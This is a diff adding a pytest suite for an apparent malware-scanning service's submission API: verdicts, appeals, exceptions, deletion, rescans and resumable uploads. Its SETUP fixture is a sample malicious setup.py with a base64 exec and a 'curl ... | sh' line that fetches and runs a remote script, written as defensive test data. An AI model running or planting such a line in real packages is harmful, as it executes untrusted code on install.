@@ -1,0 +1,263 @@
+"""Software handed in over the API, scanned by the role, with verdict, appeal, exception and deletion."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import zipfile
+
+import pytest
+
+from api import uploads
+
+SETUP = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.9/x.sh | sh')\n"
+
+
+def package(*files: tuple[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        for name, content in files:
+            z.writestr(name, content)
+    return out.getvalue()
+
+
+BAD = package(("thing-1/setup.py", SETUP), ("thing-1/PKG-INFO", b"Name: thing\nVersion: 1\n"))
+GOOD = package(("fine-1/setup.py", b"from setuptools import setup\nsetup(name='fine')\n"))
+
+
+@pytest.fixture
+def scanned(platform):
+    """Run the role until nothing waits."""
+    _, ctx, service = platform
+    role = service.scan_role
+
+    def run() -> None:
+        while role.step(ctx.clock()):
+            pass
+
+    yield run
+    role.close()
+
+
+@pytest.fixture
+def hand_in(client, scanned):
+    def send(content: bytes, name: str = "thing-1.zip", scan: bool = True, **form) -> dict:
+        answer = client.post("/api/v1/submissions", files=[("files", (name, content))], data={"org": "bank"} | form)
+        assert answer.status_code == 202, answer.text
+        if scan:
+            scanned()
+        return answer.json()["items"][0]
+
+    return send
+
+
+def detail(client, submission: dict) -> dict:
+    answer = client.get(f"/api/v1/submissions/{submission['id']}")
+    assert answer.status_code == 200, answer.text
+    return answer.json()
+
+
+def test_what_is_handed_in_waits_and_then_has_its_verdict_with_reasons_that_sum_to_it(client, hand_in, scanned):
+    new = hand_in(BAD, scan=False)
+    assert (new["state"], new["verdict"], new["sha256"]) == ("waiting", None, hashlib.sha256(BAD).hexdigest())
+    assert detail(client, new)["reasons"] == []
+    scanned()
+    found = detail(client, new)
+    assert (found["state"], found["verdict"], found["org"]) == ("done", "malicious", "bank")
+    assert found["probability"] > 0.9
+    assert any(r["file"].endswith("setup.py") and r["line"] == 2 for r in found["reasons"])
+    assert all(r["text"]["en"] and r["text"]["zh"] for r in found["reasons"])
+    listed = client.get("/api/v1/submissions", params={"verdict": "malicious", "org": "bank"}).json()["items"]
+    assert new["id"] in [i["id"] for i in listed]
+
+
+def test_the_same_content_again_is_not_scanned_again(client, hand_in, platform, monkeypatch):
+    first = hand_in(GOOD, "fine-1.zip")
+    monkeypatch.setattr(platform[2].scan_role._scanner, "scan", lambda *_: pytest.fail("it was scanned"))
+    again = hand_in(GOOD, "fine-1.zip")
+    assert detail(client, again)["verdict"] == detail(client, first)["verdict"] == "clean"
+    assert detail(client, again)["files"] == detail(client, first)["files"] != []
+
+
+def test_interactive_comes_before_bulk_and_nobody_crowds_out_others(client, hand_in, platform):
+    from situation import submissions
+
+    ids = [hand_in(package((f"{i}.py", b"x = 1\n")), scan=False, lane="bulk")["id"] for i in range(2)]
+    ids.append(hand_in(package(("now.py", b"x = 2\n")), scan=False)["id"])
+    ctx, order = platform[1], []
+    with ctx.registry.begin() as db:
+        for i in range(3):
+            job = submissions.claim(db, f"w{i}", 1_000, 2_000)
+            order.append(job.submission)
+            if i == 1:
+                other = hand_in_row(db, "other")
+        crowded = submissions.claim(db, "w3", 1_000, 2_000)
+        db.rollback()
+    assert order == [ids[2], ids[0], ids[1]]
+    assert crowded.submission == other
+
+
+def hand_in_row(db, org: str) -> str:
+    from situation import submissions
+
+    return submissions.submit(db, submissions.New(org, "x", 1, "0" * 64, "package"), "me", 5)
+
+
+def test_a_job_whose_worker_died_is_taken_by_another_and_the_dead_ones_outcome_is_not_written(platform):
+    from situation import submissions
+
+    with platform[1].registry.begin() as db:
+        key = hand_in_row(db, "lease")
+        mine = [submissions.claim(db, "a", 10, 100)]
+        assert mine[0].submission == key
+        assert submissions.claim(db, "b", 50, 200) is None
+        second = submissions.claim(db, "b", 101, 200)
+        assert (second.submission, second.tries) == (key, 2)
+        done = submissions.Outcome("", "a", "clean", 0.1)
+        assert not submissions.finish(db, mine[0], "a", done, 150)
+        assert submissions.finish(db, second, "b", done, 151)
+        assert submissions.find(db, key).verdict == "clean"
+        db.rollback()
+
+
+def test_an_appeal_is_answered_once_and_upheld_accepts_the_content(client, hand_in):
+    new = hand_in(BAD)
+    url = f"/api/v1/submissions/{new['id']}"
+    assert client.post(f"{url}/appeals", json={"reason": ""}).status_code == 422
+    (appeal,) = client.post(f"{url}/appeals", json={"reason": "it is a test of ours"}).json()["appeals"]
+    assert (appeal["state"], appeal["verdict"]) == ("open", "malicious")
+    assert appeal["deadline"] > appeal["at"]
+    assert client.post(f"{url}/appeals", json={"reason": "again"}).status_code == 409
+    assert appeal["id"] in [a["id"] for a in client.get("/api/v1/appeals", params={"state": "open"}).json()["items"]]
+    answer = {"state": "upheld", "answer": "it is"}
+    done = client.post(f"/api/v1/appeals/{appeal['id']}/answer", json=answer)
+    assert (done.json()["state"], done.json()["answered_by"]) == ("upheld", "admin")
+    assert client.post(f"/api/v1/appeals/{appeal['id']}/answer", json=answer).status_code == 409
+    found = detail(client, new)
+    assert (found["verdict"], found["exception"]["reason"]) == ("malicious", "it is")
+    assert client.delete(f"/api/v1/exceptions/{found['exception']['id']}").status_code == 204
+    assert detail(client, new)["exception"] is None
+
+
+def test_an_exception_holds_for_one_organisation_and_for_its_days(client, hand_in):
+    mine, theirs = hand_in(BAD), hand_in(BAD, org="")
+    asked = {"org": "bank", "sha256": mine["sha256"], "reason": "ours", "days": 3}
+    made = client.post("/api/v1/exceptions", json=asked)
+    assert made.status_code == 201
+    assert detail(client, mine)["exception"]["id"] == made.json()["id"]
+    assert detail(client, theirs)["exception"] is None
+    assert client.post("/api/v1/exceptions", json=asked | {"days": 0}).status_code == 422
+    assert client.post("/api/v1/exceptions", json=asked | {"org": "nobody"}).status_code == 404
+    assert client.delete(f"/api/v1/exceptions/{made.json()['id']}").status_code == 204
+    assert client.delete(f"/api/v1/exceptions/{made.json()['id']}").status_code == 409
+
+
+def test_deletion_leaves_a_tombstone_and_nothing_else(client, hand_in, platform, tmp_path):
+    content = package(("gone.py", b"x = 'unlike any other'\n"))
+    one, two = hand_in(content, "gone-1.zip"), hand_in(content, "gone-1.zip")
+    blobs = platform[1].blobs.within("bank")
+    assert client.delete(f"/api/v1/submissions/{one['id']}").status_code == 204
+    assert blobs.get(one["sha256"]) == content
+    assert client.delete(f"/api/v1/submissions/{two['id']}").status_code == 204
+    assert blobs.get(one["sha256"]) is None
+    gone = client.get(f"/api/v1/submissions/{one['id']}", headers={"accept-language": "zh"})
+    assert (gone.status_code, gone.json()["type"]) == (410, "/problems/gone")
+    assert one["sha256"] in gone.json()["detail"]
+    assert client.delete(f"/api/v1/submissions/{one['id']}").status_code == 410
+    tombstone = next(i for i in client.get("/api/v1/submissions").json()["items"] if i["id"] == one["id"])
+    assert (tombstone["name"], tombstone["size"], tombstone["state"]) == ("", 0, "deleted")
+
+
+def test_the_queue_speaks_of_malicious_software_until_it_is_deleted(client, hand_in, scanned, platform):
+    def queue(new: dict) -> list[dict]:
+        for worker in (*platform[2].platform.writers, *platform[2].platform.folds):
+            while worker.step(platform[1].clock()):
+                pass
+        found = client.get("/api/v1/alerts", params={"rule": "software.submission", "limit": 200}).json()["items"]
+        return [a for a in found if a["subject"] == f"file:{new['sha256']}"]
+
+    new = hand_in(package(("thing-2/setup.py", SETUP), ("thing-2/PKG-INFO", b"Name: thing\nVersion: 2\n")), "t-2.zip")
+    (alert,) = queue(new)
+    assert (alert["org"], alert["severity"]) == ("bank", 5)
+    assert "t-2.zip" in alert["summary"]["en"]
+    assert "恶意" in alert["summary"]["zh"]
+    assert client.get("/api/v1/alerts/" + alert["id"]).json()["explanation"]["submission"] == new["id"]
+    client.post(f"/api/v1/submissions/{new['id']}/rescan", json={})
+    scanned()
+    assert [a["id"] for a in queue(new)] == [alert["id"]]
+    assert client.delete(f"/api/v1/submissions/{new['id']}").status_code == 204
+    scanned()
+    assert queue(new) == []
+    assert client.get(f"/api/v1/submissions/{new['id']}").status_code == 410
+
+
+def test_a_submission_that_is_deleted_while_it_waits_is_not_scanned(client, hand_in, scanned):
+    new = hand_in(GOOD, scan=False)
+    assert client.delete(f"/api/v1/submissions/{new['id']}").status_code == 204
+    scanned()
+    assert client.get(f"/api/v1/submissions/{new['id']}").status_code == 410
+
+
+def test_content_that_is_gone_ends_incomplete(client, hand_in, scanned, platform):
+    new = hand_in(package(("lost.py", b"y = 3\n")), scan=False)
+    platform[1].blobs.within("bank").delete(new["sha256"])
+    scanned()
+    found = detail(client, new)
+    assert (found["verdict"], [x["name"] for x in found["limits"]]) == ("incomplete", ["missing"])
+
+
+def test_a_rescan_with_the_password_opens_what_was_shut(client, hand_in, scanned):
+    pytest.importorskip("pyzipper")
+    from pyzipper import AESZipFile
+
+    out = io.BytesIO()
+    with AESZipFile(out, "w", encryption=2) as z:
+        z.setpassword(b"correct horse")
+        z.writestr("a.py", SETUP)
+    new = hand_in(out.getvalue())
+    assert detail(client, new)["verdict"] == "incomplete"
+    client.post(f"/api/v1/submissions/{new['id']}/rescan", json={"passwords": ["correct horse"]})
+    scanned()
+    assert detail(client, new)["verdict"] in ("malicious", "suspicious")
+
+
+def test_a_rescan_is_asked_for_once(client, hand_in, scanned):
+    new = hand_in(GOOD)
+    url = f"/api/v1/submissions/{new['id']}/rescan"
+    assert client.post(url, json={}).json()["state"] == "waiting"
+    assert client.post(url, json={}).status_code == 409
+    scanned()
+    assert detail(client, new)["state"] == "done"
+
+
+def test_a_large_file_comes_in_parts_and_goes_on_where_it_was_cut_off(client, scanned):
+    made = client.post("/api/v1/uploads", json={"name": "a/b/thing-1.zip", "size": len(BAD)}).json()
+    url = f"/api/v1/uploads/{made['id']}"
+    assert (made["name"], made["offset"]) == ("thing-1.zip", 0)
+    octets = {"content-type": "application/octet-stream"}
+    first = client.put(url, params={"offset": 0}, content=BAD[:100], headers=octets)
+    assert first.json()["offset"] == 100
+    assert client.put(url, params={"offset": 0}, content=BAD[:100], headers=octets).status_code == 409
+    assert client.post(f"{url}/submit", json={"org": "bank"}).status_code == 409
+    assert client.get(url).json()["offset"] == 100
+    assert client.put(url, params={"offset": 100}, content=BAD[100:] + b"x", headers=octets).status_code == 413
+    assert client.put(url, params={"offset": 100}, content=BAD[100:], headers=octets).status_code == 200
+    new = client.post(f"{url}/submit", json={"org": "bank"}).json()
+    scanned()
+    assert detail(client, new)["verdict"] == "malicious"
+    assert client.get(url).status_code == 404
+    too_large = client.put(url, params={"offset": 0}, content=b"x",
+                           headers=octets | {"content-length": str(uploads.PART + 1)})  # fmt: skip
+    assert too_large.status_code == 413
+
+
+def test_what_does_not_fit_is_refused(client):
+    assert client.post("/api/v1/submissions", data={"org": "bank"}).status_code == 422
+    wrong = client.post("/api/v1/submissions", files=[("files", ("x", b"x"))], data={"org": "nobody"})
+    assert wrong.status_code == 404
+    files = [("files", (f"{i}", b"x")) for i in range(21)]
+    many = client.post("/api/v1/submissions", files=files, data={"org": "bank"})
+    assert many.status_code == 413
+    assert client.get("/api/v1/submissions/" + "0" * 32).status_code == 404
+    assert json.loads(client.get("/api/v1/submissions?cursor=x").text)["type"] == "/problems/unknown-cursor"
